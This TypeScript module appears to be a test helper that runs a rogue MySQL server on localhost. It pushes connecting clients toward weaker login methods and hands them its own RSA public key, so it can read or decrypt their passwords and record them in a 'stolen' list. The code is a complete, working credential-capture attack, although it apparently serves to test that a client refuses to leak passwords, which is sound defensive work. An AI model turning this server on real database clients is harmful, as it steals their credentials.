import { constants, generateKeyPairSync, privateDecrypt } from 'node:crypto';
import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';

/** A listener that imitates a MySQL server and tries to get the password. */
export interface RogueServer extends AsyncDisposable {
  readonly port: number;
  /** Passwords that it has read in plain text, or decrypted with its own key. */
  readonly stolen: readonly string[];
}

const NONCE = Buffer.from('abcdefgh12345678ABCD');
const KEY_WANTED: Readonly<Record<string, number>> = { caching_sha2_password: 2, sha256_password: 1 };

/** Starts the server. @param method the login method that it asks for; empty: the oldest, which has no name */
export async function startRogueServer(method: string, password: string): Promise<RogueServer> {
  const keys = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const stolen: string[] = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.once('close', () => sockets.delete(socket)).on('error', () => {});
    let isSwitched = false;
    const send = (sequence: number, body: Buffer) => socket.write(packet(sequence, body));
    send(0, greeting(method === '' ? 'mysql_native_password' : method));
    socket.on('data', (data) => {
      const [sequence, body] = [(data[3] ?? 0) + 1, data.subarray(4)];
      if (body.includes(password)) stolen.push(password);
      const decrypted = decrypt(keys.privateKey, body);
      if (decrypted !== null) stolen.push(decrypted);
      if (!isSwitched) {
        isSwitched = true;
        send(sequence, switchTo(method));
      } else if (body.length === 1 && body[0] === KEY_WANTED[method]) {
        const pem = keys.publicKey.export({ type: 'spki', format: 'pem' });
        send(sequence, Buffer.concat([Buffer.from([1]), Buffer.from(pem)]));
      } else if (method === 'caching_sha2_password' && body.length === 32) {
        send(sequence, Buffer.from([1, 4]));
      } else socket.end();
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    stolen,
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy();
      server.close();
      await once(server, 'close');
    },
  };
}

/** Decrypts the password of an answer with this key; null where that fails. */
function decrypt(key: ReturnType<typeof generateKeyPairSync>['privateKey'], body: Buffer): string | null {
  if (body.length !== 256) return null;
  try {
    const hidden = privateDecrypt({ key, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha1' }, body);
    return Buffer.from(hidden.map((byte, index) => byte ^ (NONCE[index % NONCE.length] ?? 0)))
      .toString()
      .replace(/\0$/, '');
  } catch {
    return null;
  }
}

function packet(sequence: number, body: Buffer): Buffer {
  const head = Buffer.from([body.length & 0xff, (body.length >> 8) & 0xff, body.length >> 16, sequence]);
  return Buffer.concat([head, body]);
}

/** Returns a greeting of protocol 10, with all that clients need to choose a login method. */
function greeting(method: string): Buffer {
  const capabilities = 0x00_8a_f7_df;
  return Buffer.concat([
    Buffer.from([10]),
    Buffer.from('8.0.36\0'),
    Buffer.from([1, 0, 0, 0]),
    NONCE.subarray(0, 8),
    Buffer.from([0, capabilities & 0xff, (capabilities >> 8) & 0xd7, 255, 2, 0, (capabilities >> 16) & 0xff, 0, 21]),
    Buffer.alloc(10),
    NONCE.subarray(8),
    Buffer.from(`\0${method}\0`),
  ]);
}

function switchTo(method: string): Buffer {
  if (method === '') return Buffer.from([0xfe]);
  return Buffer.concat([Buffer.from([0xfe]), Buffer.from(`${method}\0`), NONCE, Buffer.from([0])]);
}
